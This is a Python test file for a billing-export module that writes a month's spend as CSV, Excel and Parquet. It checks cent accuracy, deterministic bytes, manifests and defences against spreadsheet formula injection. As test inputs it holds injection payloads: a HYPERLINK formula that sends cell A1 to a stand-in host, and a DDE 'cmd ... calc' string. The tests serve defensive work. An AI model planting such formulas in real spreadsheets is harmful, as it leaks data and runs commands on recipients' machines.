"""A month as CSV, workbook and Parquet: the same cents, text that nothing runs, bytes that repeat."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import product
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pyarrow as pa
import pytest
from pyarrow import parquet

from control.export_table import Column, Table, csv_bytes, neutralised
from control.export_xlsx import xlsx_bytes
from control.exports import FORMATS, LAYOUTS, Format, Layout, month_export
from fleet.errors import Conflict, InvalidInput
from fleet.months import month_of
from fleet.spend import MonthSpend, SpendLine

NOW = datetime(2026, 12, 2, 9, 30, tzinfo=UTC)
ZERO = Decimal(0)
NOVEMBER = month_of("2026-11", ZoneInfo("Europe/Berlin"))
HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"click")'
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def month(tenant: str = "acme", amount: str = "1234567.89", **changes: Any) -> MonthSpend:
    lines = (
        SpendLine(
            "usage", tenant, "batch", "m", "h100", 3, 4, 5, Decimal("6.5"), Decimal(1), Decimal(amount)
        ),
        SpendLine("idle", "", "", "", "h100", 0, 0, 0, ZERO, Decimal("0.25"), Decimal("0.10")),
        SpendLine(
            "adjustment", "b", "t", "m", "h100", 0, 0, 0, ZERO, ZERO, Decimal("-4.38"), "2026-10", "usage"
        ),
    )
    total = sum((line.amount_usd for line in lines), ZERO)
    given = {"lines": lines, "total_usd": total} | changes
    return MonthSpend(
        NOVEMBER, "engine-seconds/1", given["lines"], given["total_usd"], ZERO, ZERO, ZERO, ZERO, False
    )


def cells(body: bytes, sheet: int = 1) -> list[list[tuple[str, str]]]:
    """The sheet's rows: of each cell its type ("s" is text, "n" a number, "f" a formula) and its value."""
    with zipfile.ZipFile(io.BytesIO(body)) as file:
        texts = [
            "".join(part.text or "" for part in item.iter(f"{SHEET}t"))
            for item in ElementTree.fromstring(file.read("xl/sharedStrings.xml"))
        ]
        tree = ElementTree.fromstring(file.read(f"xl/worksheets/sheet{sheet}.xml"))
    found: list[list[tuple[str, str]]] = []
    for row in tree.iter(f"{SHEET}row"):
        found.append([])
        for cell in row.iter(f"{SHEET}c"):
            value = cell.findtext(f"{SHEET}v") or ""
            if cell.find(f"{SHEET}f") is not None:
                found[-1].append(("f", value))
            elif cell.get("t") == "s":
                found[-1].append(("s", texts[int(value)]))
            else:
                found[-1].append(("n", value))
    return found


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\ufeff=1",
        "\u200b=1",
        "\u00a0=1",
        " \t=1",
        "\u3000\uff1d1",
        "\x00=1",
        "\ufe661",
        "\ufe621",
        "\ufe631",
        "\ufe6b1",
        "\u207c1",
        "\u202e=1",
        "\u2066=1",
        "\xad=1",
        "\u180e=1",
        "\x01=1",
        "\x7f=1",
        "\u034f=1",
        "\ufe0f=1",
        "\u3164=1",
        "\U000e0020=1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a; \uff0b1;b;@x", "a;' \uff0b1;b;'@x"),
        ('a;"=1"', 'a;\'"=1"'),
        ("a\n=1", "a\n'=1"),
        ("=a;-1", "'=a;'-1"),
    ],
)
def test_no_cell_begins_a_formula_behind_a_semicolon_or_line_end(text: str, safe: str) -> None:
    assert neutralised(text) == safe


@pytest.mark.parametrize(
    "text", ["", "acme", "a=b", "1-2", "'=1", "team @ home", "ünï", "a; b", "\u0301e;"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("tenant", [HOSTILE, "-2+3", "\uff1dcmd|' /C calc'!A0", "@SUM(1)"])
def test_no_cell_of_csv_or_workbook_is_a_formula_and_numbers_stay_numbers(
    layout: Layout, tenant: str
) -> None:
    spend = month(tenant)
    table = list(
        csv.reader(io.StringIO(month_export(spend, "csv", layout, now=NOW).body.decode(), newline=""))
    )
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\uff1d")), cell
            assert not cell.startswith("-") or Decimal(cell) < 0  # a minus only before a number
    assert any(cell == f"'{tenant}" for cell in table[1])
    sheet = cells(month_export(spend, "xlsx", layout, now=NOW).body)
    assert not [cell for row in sheet for cell in row if cell[0] == "f"]
    assert ("s", f"'{tenant}") in sheet[1]


@pytest.mark.parametrize("layout", LAYOUTS)
def test_all_formats_carry_the_same_cents(layout: Layout) -> None:
    spend, name = month(), "amount_usd" if layout == "plain" else "BilledCost"
    wanted = [Decimal("1234567.89"), Decimal("0.10"), Decimal("-4.38")]
    text = month_export(spend, "csv", layout, now=NOW).body.decode()
    assert [Decimal(row[name]) for row in csv.DictReader(io.StringIO(text, newline=""))] == wanted
    table = parquet.read_table(io.BytesIO(month_export(spend, "parquet", layout, now=NOW).body))
    assert table.schema.field(name).type == pa.decimal128(38, 2)
    assert table.column(name).to_pylist() == wanted
    sheet = cells(month_export(spend, "xlsx", layout, now=NOW).body)
    at = [value for _, value in sheet[0]].index(name)
    amounts = [row for row in sheet[1:] if row]
    if layout == "plain":  # no empty cells before it
        assert [(row[at][0], Decimal(row[at][1])) for row in amounts] == [("n", each) for each in wanted]
    else:
        numbers = [{Decimal(value) for kind, value in row if kind == "n"} for row in amounts]
        assert all(each in row for each, row in zip(wanted, numbers, strict=True))


def test_a_workbook_has_a_frozen_header_and_real_dates() -> None:
    body = month_export(month(), "xlsx", "plain", now=NOW).body
    with zipfile.ZipFile(io.BytesIO(body)) as file:
        xml = file.read("xl/worksheets/sheet1.xml").decode()
        styles = file.read("xl/styles.xml").decode()
    assert re.search(r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"', xml)
    assert "yyyy-mm" in styles
    # Excel counts days from 1899-12-30: 2026-11-01 is day 46327
    assert (date(2026, 11, 1) - date(1899, 12, 30)).days == 46327
    assert cells(body)[1][0] == ("n", "46327")


def test_parquet_has_utc_timestamps_and_says_what_it_is() -> None:
    export = month_export(month(), "parquet", "focus", now=NOW)
    table = parquet.read_table(io.BytesIO(export.body))
    assert table.schema.field("BillingPeriodStart").type == pa.timestamp("us", tz="UTC")
    assert table.column("BillingPeriodStart")[0].as_py() == datetime(2026, 10, 31, 23, 0, tzinfo=UTC)
    said = {key.decode(): value.decode() for key, value in table.schema.metadata.items()}
    assert said["rhodeck.schema"] == "FOCUS 1.4"
    assert said["rhodeck.total_usd"] == "1234563.61"
    assert said["rhodeck.canonical_sha256"] == month_export(month(), "csv", "plain", now=NOW).sha256


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_the_same_month_gives_the_same_bytes_whenever_it_is_asked_for(fmt: Format, layout: Layout) -> None:
    first = month_export(month(), fmt, layout, now=NOW)
    again = month_export(month(), fmt, layout, now=datetime(2027, 1, 1, tzinfo=UTC))
    assert first.body == again.body
    assert first.sha256 == hashlib.sha256(first.body).hexdigest()


def test_every_file_of_a_month_has_a_name_of_its_own() -> None:
    names = {month_export(month(), fmt, layout, now=NOW).file_name for fmt in FORMATS for layout in LAYOUTS}
    assert len(names) == len(FORMATS) * len(LAYOUTS)


@pytest.mark.parametrize("fmt", FORMATS)
def test_lines_that_do_not_sum_to_the_month_are_refused(fmt: Format) -> None:
    with pytest.raises(Conflict, match=r"sum to 1234563\.61 USD, not to 1\.00"):
        month_export(month(total_usd=Decimal("1.00")), fmt, "plain", now=NOW)


def test_kept_bytes_that_lost_a_row_are_refused() -> None:
    body = month_export(month(), "csv", "plain", now=NOW).body
    torn = body[: body.rindex(b"2026-11", 0, body.rindex(b"2026-11"))]
    with pytest.raises(Conflict, match="not those of the file it was closed with"):
        month_export(month(), "csv", "plain", now=NOW, canonical=torn)


def test_a_month_without_lines_is_a_file_with_a_header() -> None:
    empty = month(lines=(), total_usd=Decimal("0.00"))
    for fmt, layout in product(FORMATS, LAYOUTS):
        made = month_export(empty, fmt, layout, now=NOW)
        said = made.manifest()
        # no node answered in it: what it cost is not 0 but not known
        assert (said["rows"], said["total_usd"], said["recorded"]) == (0, None, False)
        assert "nothing is recorded" in str(said["note"])
        assert made.headers()["X-Rhodeck-Recorded"] == "false"
        assert "X-Rhodeck-Total-USD" not in made.headers()
    inside = parquet.read_schema(io.BytesIO(month_export(empty, "parquet", "plain", now=NOW).body)).metadata
    assert inside[b"rhodeck.total_usd"] == b"not recorded"
    sheet = month_export(empty, "xlsx", "plain", now=NOW)
    assert [("s", "total_usd"), ("s", "not recorded")] in cells(sheet.body, sheet=2)


def test_a_closed_month_without_lines_cost_nothing_and_says_so() -> None:
    closed = replace(month(lines=(), total_usd=Decimal("0.00")), state="closed")
    said = month_export(closed, "csv", "plain", now=NOW).manifest()
    assert (said["rows"], said["total_usd"], "recorded" in said) == (0, "0.00", False)


def test_text_longer_than_a_cell_is_refused_not_cut() -> None:
    table = Table((Column("note"),), [("x" * 32_768,)])
    with pytest.raises(InvalidInput, match="32767 characters"):
        xlsx_bytes(table, {}, NOW)


def test_csv_keeps_what_a_cell_holds() -> None:
    rows = [('a "quoted", text\nof two lines', Decimal("0.1"), None), ("ü", Decimal("-0.05"), NOW)]
    table = Table((Column("note"), Column("usd", "decimal", 2), Column("at", "time")), rows)
    read = list(csv.reader(io.StringIO(csv_bytes(table).decode(), newline="")))
    assert read[1:] == [[rows[0][0], "0.10", ""], ["ü", "-0.05", "2026-12-02T09:30:00Z"]]
